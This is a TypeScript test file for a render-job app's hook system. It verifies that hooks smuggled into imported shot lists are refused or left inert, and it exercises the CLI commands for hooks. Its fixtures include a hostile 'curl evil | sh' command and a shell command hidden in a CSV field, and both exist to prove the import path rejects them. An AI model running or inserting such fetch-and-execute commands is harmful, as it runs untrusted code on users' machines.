import { test } from 'node:test';
import assert from 'node:assert/strict';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../helpers/cli.js';
import { readFileSync } from 'node:fs';
import { EXIT } from '../../electron/cli/exit-codes.js';
import { HookRunner } from '../../electron/engine/hooks/hook-runner.js';
import { getHooks } from '../../electron/engine/hooks/hook-settings.js';
import { listDeliveries } from '../../electron/engine/store/delivery-store.js';
import { systemTimers } from '../../electron/engine/clock.js';
import { ShotfarmError } from '../../shared/errors.js';
import { engineFor, importText, RESOURCES } from '../helpers/engine.js';
import { jobViewFixture } from '../helpers/job-view.js';

const sample = JSON.parse(readFileSync(`${RESOURCES}samples/shot_list.json`, 'utf8'));
const evilHook = [
  { id: 'pwn', on: ['completed'], kind: 'command', command: '/bin/sh', args: ['-c', 'curl evil | sh'] },
];

const cli = runCli;

test('a shot list carrying hooks is refused whole, and no hook is configured by it', async (ctx) => {
  const t = await engineFor(ctx);
  const withHooks = JSON.stringify({ ...sample, hooks: evilHook });
  await assert.rejects(
    t.engine.call('import.preview', { fileName: 'shot_list.json', content: withHooks, baseDir: `${RESOURCES}samples` }),
    (err: unknown) =>
      err instanceof ShotfarmError &&
      err.code === 'bad_input' &&
      /not a valid shot list/.test(err.message) &&
      /hooks/.test(err.message),
  );
  assert.deepEqual(getHooks(t.engine.db), []);
  assert.equal((t.engine.db.one('SELECT COUNT(*) AS n FROM jobs') as { n: number }).n, 0);
});

test('a shot carrying hooks is a row error; the rows that import configure no hook', async (ctx) => {
  const t = await engineFor(ctx);
  const shots = sample.shots.map((s: Record<string, unknown>, i: number) => (i === 1 ? { ...s, hooks: evilHook } : s));
  const { preview, result } = await importText(t.engine, 'shot_list.json', JSON.stringify({ ...sample, shots }));
  const bad = preview.rows.filter((r) => r.status === 'error');
  assert.equal(bad.length, 1);
  assert.match(bad[0]!.errors.join(' '), /hooks/);
  assert.equal(result.imported, 3);
  assert.deepEqual(getHooks(t.engine.db), []);
});

test('a "Hooks" column in a CSV shot list is inert metadata: nothing runs for its jobs', async (ctx) => {
  const t = await engineFor(ctx);
  const csv = `Shot,Stage,Template,Prompt,input:image,Hooks\nsh010,keyframe,keyframe-img2img,a moon,plates/sh010.png,"/bin/sh -c 'touch ${join(tmpdir(), 'pwned')}'"\n`;
  const preview = await t.engine.call('import.preview', {
    fileName: 'shots.csv',
    content: csv,
    baseDir: `${RESOURCES}samples`,
    mapping: { project: 'Moonfall', episode: 'ep101' },
  });
  const { jobIds } = await t.engine.call('import.commit', { previewId: preview.previewId });
  assert.equal(jobIds.length, 1);
  assert.deepEqual(getHooks(t.engine.db), []);
  const runner = new HookRunner({
    db: t.engine.db,
    clock: t.clock,
    timers: systemTimers,
    random: () => 0,
    log: () => undefined,
  });
  const job = await t.engine.call('jobs.get', { id: jobIds[0]! });
  assert.deepEqual(runner.notify({ ...job, state: 'completed' }), []);
  await runner.close();
  assert.deepEqual(listDeliveries(t.engine.db), []);
});

test('hooks add-command, add-webhook, list, remove and deliveries from the command line', async (ctx) => {
  const t = await engineFor(ctx, { templates: false });
  const added = await cli(
    t.dir,
    'hooks',
    'add-command',
    'notify',
    '--on',
    'completed,failed',
    '--timeout',
    '5000',
    '--',
    '/usr/local/bin/notify-render',
    '--channel',
    'my renders',
  );
  assert.equal(added.code, EXIT.ok, added.err);
  assert.equal(
    added.out,
    'Added hook notify: on completed, failed run /usr/local/bin/notify-render --channel "my renders"',
  );
  assert.equal(
    (
      await cli(
        t.dir,
        'hooks',
        'add-webhook',
        'chat',
        'https://chat.example/hook/T0K3N',
        '--on',
        'failed',
        '--retries',
        '5',
      )
    ).code,
    EXIT.ok,
  );

  assert.deepEqual(JSON.parse((await cli(t.dir, '--json', 'hooks', 'list')).out), [
    {
      id: 'notify',
      on: ['completed', 'failed'],
      timeoutMs: 5000,
      kind: 'command',
      command: '/usr/local/bin/notify-render',
      args: ['--channel', 'my renders'],
    },
    // The token in the path is masked in every answer (the hook keeps it: the deliveries use it).
    { id: 'chat', on: ['failed'], retries: 5, kind: 'webhook', url: 'https://chat.example/hook/***' },
  ]);
  assert.match(
    (await cli(t.dir, 'hooks', 'list')).out,
    /chat\s+webhook\s+failed\s+https:\/\/chat\.example\/hook\/\*\*\*\s+10000\s+5/,
  );

  const dup = await cli(t.dir, 'hooks', 'add-webhook', 'chat', 'https://other.example/', '--on', 'failed');
  assert.equal(dup.code, EXIT.conflict);
  assert.match(dup.err, /already named "chat"/);
  const badEvent = await cli(t.dir, 'hooks', 'add-webhook', 'x', 'https://h.example/', '--on', 'started');
  assert.equal(badEvent.code, EXIT.badInput);
  assert.match(badEvent.err, /--on takes completed, failed, late/);
  const onLate = await cli(t.dir, 'hooks', 'add-webhook', 'lead', 'https://h.example/late', '--on', 'late,failed');
  assert.equal(onLate.code, EXIT.ok, onLate.err);
  assert.match((await cli(t.dir, 'hooks', 'list')).out, /lead\s+webhook\s+late,failed\s/);
  assert.equal((await cli(t.dir, 'hooks', 'remove', 'lead')).code, EXIT.ok);
  const badUrl = await cli(t.dir, 'hooks', 'add-webhook', 'x', 'ftp://h.example/', '--on', 'failed');
  assert.equal(badUrl.code, EXIT.badInput);
  assert.match(badUrl.err, /url: must be an http:\/\/ or https:\/\/ URL/);

  assert.equal((await cli(t.dir, 'hooks', 'remove', 'notify')).code, EXIT.ok);
  assert.equal((await cli(t.dir, 'hooks', 'remove', 'notify')).code, EXIT.notFound);
  assert.deepEqual(
    JSON.parse((await cli(t.dir, '--json', 'hooks', 'list')).out).map((h: { id: string }) => h.id),
    ['chat'],
  );

  assert.equal((await cli(t.dir, 'hooks', 'deliveries', '--status', 'failed')).out, 'No deliveries.');
  // A delivery that failed for good shows up with its error.
  await cli(
    t.dir,
    'hooks',
    'add-command',
    'missing',
    '--on',
    'completed',
    '--retries',
    '0',
    '--',
    '/nonexistent/notify-render',
  );
  const runner = new HookRunner({
    db: t.engine.db,
    clock: t.clock,
    timers: systemTimers,
    random: () => 0,
    log: () => undefined,
  });
  const job = jobViewFixture();
  assert.equal(runner.notify(job).length, 1);
  await runner.whenIdle();
  await runner.close();
  const deliveries = await cli(t.dir, 'hooks', 'deliveries', '--status', 'failed');
  assert.equal(deliveries.code, EXIT.ok);
  assert.match(
    deliveries.out,
    /missing\s+00000000\s+completed\s+failed\s+1\s+.*The program \/nonexistent\/notify-render was not found/,
  );
  assert.equal(JSON.parse((await cli(t.dir, '--json', 'hooks', 'deliveries')).out)[0].status, 'failed');
  assert.equal((await cli(t.dir, 'hooks', 'deliveries', '--status', 'lost')).code, EXIT.badInput);
  assert.equal((await cli(t.dir, 'hooks', 'clear')).code, EXIT.ok);
  assert.equal(
    (await cli(t.dir, 'hooks', 'list')).out,
    'No hooks. Add one with: shotfarm hooks add-command | add-webhook',
  );
});
